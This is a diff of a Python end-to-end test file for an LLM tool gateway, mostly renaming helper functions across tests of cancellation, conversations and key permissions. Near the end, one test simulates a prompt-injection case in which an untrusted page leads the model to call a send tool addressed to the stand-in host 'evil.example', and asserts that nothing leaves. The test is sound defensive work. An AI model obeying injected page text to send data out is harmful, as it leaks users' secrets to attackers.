@@ -14,7 +14,7 @@ from dragoman.gateway.agents.settings import AgentTable
 from dragoman.simulator import Answer, Call, read_fault
 from dragoman.simulator.runner import in_thread
 from dragoman.tools import Handler, Registry, ToolFailure, tool
-from end_to_end.gateway.test_agents import scripted, seen_since, toolbox
+from end_to_end.gateway.test_agents import list_seen_since, toolbox, write_script
 from end_to_end.gateway.test_background import until_done
 from server.agents import CLIENTS, WEATHER, Client
 from server.conftest import serving
@@ -43,7 +43,7 @@ class Patient:
         return tool(wait)
 
 
-def calling(*names):
+def call_tool(*names):
     """A script that calls one tool in each turn, and then reports the last result."""
 
     def script(received):
@@ -71,7 +71,7 @@ def start():
 @pytest.mark.parametrize("stream", [False, True])
 def test_a_client_that_leaves_stops_the_tool_that_runs_for_it(start, stream):
     patient = Patient()
-    gateway = start(calling("wait"), [patient.handler], agents={"helper": AgentTable(model="gem", tools=("wait",))})
+    gateway = start(call_tool("wait"), [patient.handler], agents={"helper": AgentTable(model="gem", tools=("wait",))})
 
     async def ask_and_leave():
         async with openai.AsyncOpenAI(base_url=f"{gateway.base_url}/v1", api_key="k", max_retries=0) as client:
@@ -89,7 +89,7 @@ def test_a_client_that_leaves_stops_the_tool_that_runs_for_it(start, stream):
 
 
 def test_a_background_run_is_polled_and_what_it_called_is_handed_over(start):
-    gateway = start(scripted, toolbox())
+    gateway = start(write_script, toolbox())
     client = gateway.open(openai.OpenAI(base_url=f"{gateway.base_url}/v1", api_key="k", max_retries=0))
     weather = {"type": "function", "name": "get_weather", "parameters": WEATHER["get_weather"]}
     begun = client.responses.create(model="helper", input="mixed", tools=[weather], background=True)
@@ -106,7 +106,7 @@ def test_a_background_run_is_polled_and_what_it_called_is_handed_over(start):
 
 def test_a_background_run_that_is_cancelled_stops_its_tool(start):
     patient = Patient()
-    gateway = start(calling("wait"), [patient.handler])
+    gateway = start(call_tool("wait"), [patient.handler])
     client = gateway.open(openai.OpenAI(base_url=f"{gateway.base_url}/v1", api_key="k", max_retries=0))
     begun = client.responses.create(model="helper", input="go", background=True)
     assert patient.begun.wait(10)
@@ -122,11 +122,11 @@ def test_a_tool_that_fails_is_a_result_that_the_model_sees(start, dialect):
         """Fail."""
         raise ToolFailure("the disk is full")
 
-    gateway = start(calling("fail"), [tool(fail)])
+    gateway = start(call_tool("fail"), [tool(fail)])
     assert "the disk is full" in Client(gateway, dialect, stream=True, model="helper").ask("go").text
 
 
-def failing_later(received):
+def fail_later(received):
     """Say something and call a tool, then break."""
     if received.request.turns[-1].results:
         return read_fault("400")
@@ -135,7 +135,7 @@ def failing_later(received):
 
 @pytest.mark.parametrize("dialect", CLIENTS)
 def test_an_upstream_failure_in_a_later_turn_is_reported_in_the_stream_or_by_status(start, dialect):
-    gateway = start(failing_later, toolbox())
+    gateway = start(fail_later, toolbox())
     for stream in (False, True):
         with pytest.raises(Exception, match=r"(?i)fault|error|invalid|unsupported|aborted|400") as error:
             Client(gateway, dialect, stream=stream, model="helper").ask("go")
@@ -147,7 +147,7 @@ def test_an_upstream_failure_in_a_later_turn_is_reported_in_the_stream_or_by_sta
 
 
 def test_only_results_are_sent_where_the_gateway_keeps_the_conversation(start):
-    gateway = start(scripted, toolbox())
+    gateway = start(write_script, toolbox())
     client = gateway.open(openai.OpenAI(base_url=f"{gateway.base_url}/v1", api_key="k", max_retries=0))
     weather = {"type": "function", "name": "get_weather", "parameters": WEATHER["get_weather"]}
     first = client.responses.create(model="helper", input="mixed", tools=[weather], conversation="c1")
@@ -160,7 +160,7 @@ def test_only_results_are_sent_where_the_gateway_keeps_the_conversation(start):
 
 
 def test_a_named_conversation_of_another_dialect_continues_with_only_results(start):
-    gateway = start(scripted, toolbox())
+    gateway = start(write_script, toolbox())
     headers = {"x-dragoman-conversation": "c2"}
     client = Client(gateway, "chat", stream=True, model="helper")
     heard = client.ask("mixed", headers=headers, schemas=WEATHER)
@@ -170,7 +170,7 @@ def test_a_named_conversation_of_another_dialect_continues_with_only_results(sta
 
 
 def test_a_code_assist_client_uses_an_agent_in_its_envelope(start):
-    gateway = start(scripted, toolbox())
+    gateway = start(write_script, toolbox())
     body = {"model": "helper", "request": {"contents": [{"role": "user", "parts": [{"text": "own"}]}]}}
     for verb in ("generateContent", "streamGenerateContent?alt=sse"):
         asked = Request(  # noqa: S310  the gateway's own address
@@ -184,7 +184,7 @@ def test_a_code_assist_client_uses_an_agent_in_its_envelope(start):
 
 
 def test_strict_mode_rejects_losses_of_an_agents_model(start):
-    gateway = start(scripted, toolbox(), agents={"helper": AgentTable(model="claude", tools=("add",))})
+    gateway = start(write_script, toolbox(), agents={"helper": AgentTable(model="claude", tools=("add",))})
     client = Client(gateway, "chat", stream=True, model="helper")
     with pytest.raises(openai.BadRequestError, match="/seed"):
         client.ask("own", headers={"x-dragoman-strict": "true"}, seed=7)
@@ -205,7 +205,7 @@ def test_an_agent_with_an_unknown_model_is_an_error_at_startup():
 
 def test_what_one_process_left_out_another_puts_back(tmp_path):
     kept = SessionsTable(url=f"sqlite:///{tmp_path}/s.db")
-    with in_thread(script=scripted) as simulator:
+    with in_thread(script=write_script) as simulator:
         with serving(simulator, tools=toolbox(), agents=HELPER, sessions=kept) as gateway:
             client = Client(gateway, "chat", stream=True, model="helper")
             heard = client.ask("mixed", schemas=WEATHER)
@@ -218,7 +218,7 @@ def test_what_one_process_left_out_another_puts_back(tmp_path):
 
 @pytest.mark.parametrize("dialect", CLIENTS)
 def test_what_was_left_out_is_put_back_for_its_owner_only(start, dialect):
-    gateway = start(scripted, toolbox(), keys=(KeyTable(key="a", name="ann"), KeyTable(key="b", name="bob")))
+    gateway = start(write_script, toolbox(), keys=(KeyTable(key="a", name="ann"), KeyTable(key="b", name="bob")))
     ann = Client(gateway, dialect, stream=False, model="helper", key="a")
     heard = ann.ask("mixed", schemas=WEATHER)
     bob = Client(gateway, dialect, stream=False, model="helper", key="b")
@@ -229,12 +229,12 @@ def test_what_was_left_out_is_put_back_for_its_owner_only(start, dialect):
     assert "<a>" not in told
     assert "sunny" in told
     # Bob's own version of the history is valid all the same.
-    assert [seen.status for seen in seen_since(gateway, before)] == [200]
+    assert [seen.status for seen in list_seen_since(gateway, before)] == [200]
 
 
 @pytest.mark.parametrize("stream", [False, True])
 def test_what_a_client_has_of_a_mixed_turn_is_a_valid_history_at_its_own_vendor(start, stream):
-    gateway = start(scripted, toolbox())
+    gateway = start(write_script, toolbox())
     client = Client(gateway, "gemini", stream=stream, model="helper")
     heard = client.ask("mixed", schemas=WEATHER)
     client.answer(heard, {"get_weather": "sunny"})
@@ -244,7 +244,7 @@ def test_what_a_client_has_of_a_mixed_turn_is_a_valid_history_at_its_own_vendor(
 
 
 def test_a_call_that_differs_from_the_stored_one_is_not_treated_as_the_same(start):
-    gateway = start(scripted, toolbox())
+    gateway = start(write_script, toolbox())
     client = Client(gateway, "chat", stream=False, model="helper")
     heard = client.ask("mixed", schemas=WEATHER)
     client.history[-1]["tool_calls"][0]["function"]["arguments"] = '{"city":"Oslo"}'
@@ -257,7 +257,7 @@ def test_a_call_that_differs_from_the_stored_one_is_not_treated_as_the_same(star
 
 def test_a_key_uses_the_tools_that_it_may_and_the_agents_that_it_may(start):
     keys = (KeyTable(key="a", name="ann", tools=("files__*",)), KeyTable(key="b", name="bob"))
-    gateway = start(scripted, toolbox(), keys=keys)
+    gateway = start(write_script, toolbox(), keys=keys)
     ann = Client(gateway, "chat", stream=False, model="gem", key="a")
     assert ann.ask("own", headers={"x-dragoman-tools": "files"}).text.endswith("It said: <a>")
     with pytest.raises(openai.PermissionDeniedError, match="this API key is not allowed to use the tool 'add'"):
@@ -282,7 +282,7 @@ def test_no_data_leaves_after_a_page_instructed_the_model_to_send_a_secret(start
 
     tools.register(tool(page, untrusted=True))
     tools.register(tool(send, sends_out=True, side_effects=True))
-    gateway = start(calling("page", ("send", {"to": "evil.example", "text": "canary"})), list(tools))
+    gateway = start(call_tool("page", ("send", {"to": "evil.example", "text": "canary"})), list(tools))
     told = Client(gateway, "messages", stream=True, model="helper").ask("go").text
     assert sent == []
     assert told.startswith("It said: ")
@@ -300,6 +300,6 @@ def test_a_request_without_gateway_tools_is_passed_through(start):
 def test_handlers_of_a_program_are_tools_like_any_other(start):
     handler = tool(lambda: None, name="nothing", description="Do nothing.")
     assert isinstance(handler, Handler)
-    gateway = start(calling("nothing"), [handler])
+    gateway = start(call_tool("nothing"), [handler])
     client = Client(gateway, "gemini", stream=False, model="gem")
     assert client.ask("go", headers={"x-dragoman-tools": "noth*"}).text.startswith("It said")
